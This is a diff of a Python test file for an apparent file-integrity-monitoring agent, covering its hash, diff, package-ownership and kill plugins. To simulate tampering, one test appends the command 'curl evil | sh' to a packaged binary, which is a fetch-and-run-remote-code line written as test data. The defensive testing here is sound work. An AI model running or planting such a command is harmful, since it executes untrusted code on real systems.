@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import hashlib
+import importlib
 import os
 import shutil
 import subprocess
@@ -11,15 +12,19 @@ from dataclasses import replace
 import pytest
 
 from otel_fim.event import DestinationDetails, EventType, FileInfo
-from otel_fim.pipeline import Pipeline
-from otel_fim.plugin_manager import builtin_module, load_plugins
+from otel_fim.pipeline import Emitter, Pipeline
+from otel_fim.plugin.manager import load_plugins
 from otel_fim.rules.errors import PolicyError
 from otel_fim.rules.match import Match
 from otel_fim.rules.ruleset import RuleSet
 
-from .helpers import Recorder, agent_config, make_event
+from .helpers import Recorder, agent_config, make_event, with_plugins
 
 MATCH = Match("r", "high")
+
+
+def bundled_module(name: str):
+    return importlib.import_module(f"otel_fim_plugins.{name}")
 
 
 def started(tmp_path, *names, **config):
@@ -33,7 +38,7 @@ def started(tmp_path, *names, **config):
 
 def test_hash_equals_sha256sum_and_respects_the_size_limit(tmp_path):
     started(tmp_path, "hash", config={"hash": {"max_bytes": 1000}})
-    h = builtin_module("hash")
+    h = bundled_module("hash")
     f = tmp_path / "f"
     f.write_bytes(os.urandom(999))
     got = h.otel_fim_enrich(make_event(str(f), flags=0), [MATCH])
@@ -48,7 +53,7 @@ def test_hash_equals_sha256sum_and_respects_the_size_limit(tmp_path):
 
 def test_hash_as_an_action_only_for_the_rules_that_ask(tmp_path):
     plugins = started(tmp_path, "hash", config={"hash": {"all_matches": False}})
-    h = builtin_module("hash")
+    h = bundled_module("hash")
     f = tmp_path / "f"
     f.write_text("x")
     assert h.otel_fim_enrich(make_event(str(f), flags=0), [MATCH]) is None
@@ -59,13 +64,13 @@ def test_hash_as_an_action_only_for_the_rules_that_ask(tmp_path):
     with pytest.raises(PolicyError, match="parameter 'max_bytes': must be > 0"):
         RuleSet.from_text(
             'rules: [{id: a, expression: open.file.path == "/x", actions: [{hash: {max_bytes: 0}}]}]',
-            known_actions=plugins.known_actions(),
+            known_actions=plugins.known_actions(), fields=plugins.fields,
         )
 
 
 def test_hash_of_a_rename_is_the_destination(tmp_path):
     started(tmp_path, "hash")
-    h = builtin_module("hash")
+    h = bundled_module("hash")
     dest = tmp_path / "new"
     dest.write_text("moved")
     event = make_event(str(tmp_path / "old"), kind=EventType.RENAME)
@@ -86,7 +91,7 @@ def test_diff_baselines_what_rules_watch_and_diffs_the_next_write(tmp_path):
     ruleset = RuleSet.from_text(f'rules: [{{id: a, expression: fim.write.file.path =~ "{watched}/**"}}]')
     plugins = started(tmp_path, "diff")
     plugins.rules_loaded(ruleset)
-    d = builtin_module("diff")
+    d = bundled_module("diff")
     copies = tmp_path / "state" / "plugins" / "diff" / "baselines"
     assert sorted(p.read_bytes() for p in copies.iterdir()) == [b"a\nb\nc\n", b"deep\n"]
 
@@ -124,7 +129,7 @@ def test_diff_of_a_rename_over_a_watched_file_uses_the_old_content(tmp_path):
     os.rename(tmp, conf)
     event = make_event(str(tmp), kind=EventType.RENAME)
     event.details = DestinationDetails(FileInfo(str(conf)))
-    got = builtin_module("diff").otel_fim_enrich(event, [MATCH])
+    got = bundled_module("diff").otel_fim_enrich(event, [MATCH])
     assert "-port 80\n+port 8080\n" in got["unified"]
 
 
@@ -135,7 +140,7 @@ def test_diff_is_cut_at_max_diff_bytes(tmp_path):
     plugins = started(tmp_path, "diff", config={"diff": {"max_diff_bytes": 100}})
     plugins.rules_loaded(ruleset)
     conf.write_text("".join(f"line {i}\n" for i in range(100)))
-    got = builtin_module("diff").otel_fim_enrich(make_event(str(conf)), [MATCH])
+    got = bundled_module("diff").otel_fim_enrich(make_event(str(conf)), [MATCH])
     assert got["truncated"] is True and len(got["unified"].encode()) <= 100
     assert got["added"] == 100
 
@@ -164,7 +169,7 @@ def fake_dpkg(tmp_path):
 def test_package_owner_conffile_digest_and_manager(tmp_path):
     admin, shipped = fake_dpkg(tmp_path)
     plugins = started(tmp_path, "package", config={"package": {"admindir": str(admin)}})
-    p = builtin_module("package")
+    p = bundled_module("package")
     p._index.ready.wait(5)
     # the event paths are rewritten onto files of ours; the index is keyed by the packaged paths
     tool = tmp_path / "tool"
@@ -180,9 +185,10 @@ def test_package_owner_conffile_digest_and_manager(tmp_path):
     dpkg_event.process = replace(dpkg_event.process, comm="dpkg")
     assert p.otel_fim_enrich(dpkg_event, [MATCH])["by_package_manager"] is True
 
-    ruleset = RuleSet.from_text(
-        'rules: [{id: a, expression: open.retval >= 0 && package.name == "tool" && !package.by_manager}]'
-    )
+    rule = 'rules: [{id: a, expression: open.retval >= 0 && package.name == "tool" && !package.by_manager}]'
+    with pytest.raises(PolicyError, match="unknown field 'package.name'"):
+        RuleSet.from_text(rule)  # plugin fields live in that agent's registry only
+    ruleset = RuleSet.from_text(rule, fields=plugins.fields)
     assert [m.rule_id for m in ruleset.evaluate(make_event("/usr/bin/tool"))] == ["a"]
     assert not ruleset.evaluate(dpkg_event)
     assert ruleset.approvers(EventType.OPEN).accept_all  # plugin fields are unknown to the kernel
@@ -197,7 +203,7 @@ def test_package_digest_match_tells_tampering_apart(tmp_path):
     (admin / "info" / "tool.list").write_text(f"{tool}\n")
     (admin / "info" / "tool.md5sums").write_text(f"{hashlib.md5(shipped).hexdigest()}  {str(tool)[1:]}\n")
     started(tmp_path, "package", config={"package": {"admindir": str(admin)}})
-    p = builtin_module("package")
+    p = bundled_module("package")
     p._index.ready.wait(5)
     assert p.otel_fim_enrich(make_event(str(tool)), [MATCH])["digest_match"] is True
     tool.write_bytes(shipped + b"curl evil | sh\n")
@@ -207,7 +213,7 @@ def test_package_digest_match_tells_tampering_apart(tmp_path):
 @pytest.mark.skipif(shutil.which("dpkg") is None, reason="not a Debian system")
 def test_package_agrees_with_dpkg_s(tmp_path):
     started(tmp_path, "package")
-    p = builtin_module("package")
+    p = bundled_module("package")
     assert p._index.ready.wait(30)
     for path in ("/usr/bin/ls", "/bin/ls", "/etc/debian_version"):
         if not os.path.exists(path):
@@ -237,11 +243,11 @@ def test_kill_never_signals_the_agent_or_init(tmp_path, caplog):
     plugins = started(tmp_path, "kill")
     ruleset = RuleSet.from_text(
         'rules: [{id: a, expression: open.file.path == "/x", actions: [kill]}]',
-        known_actions=plugins.known_actions(),
+        known_actions=plugins.known_actions(), fields=plugins.fields,
     )
     out = Recorder()
-    pipeline = Pipeline([out], ruleset)
-    plugins.start(pipeline, ruleset)
+    pipeline = Pipeline(Emitter([out]), ruleset)
+    pipeline = with_plugins(plugins, pipeline)
     pipeline.handle(make_event("/x", pid=os.getpid()))
     pipeline.handle(make_event("/x", pid=1))
     pipeline.close()
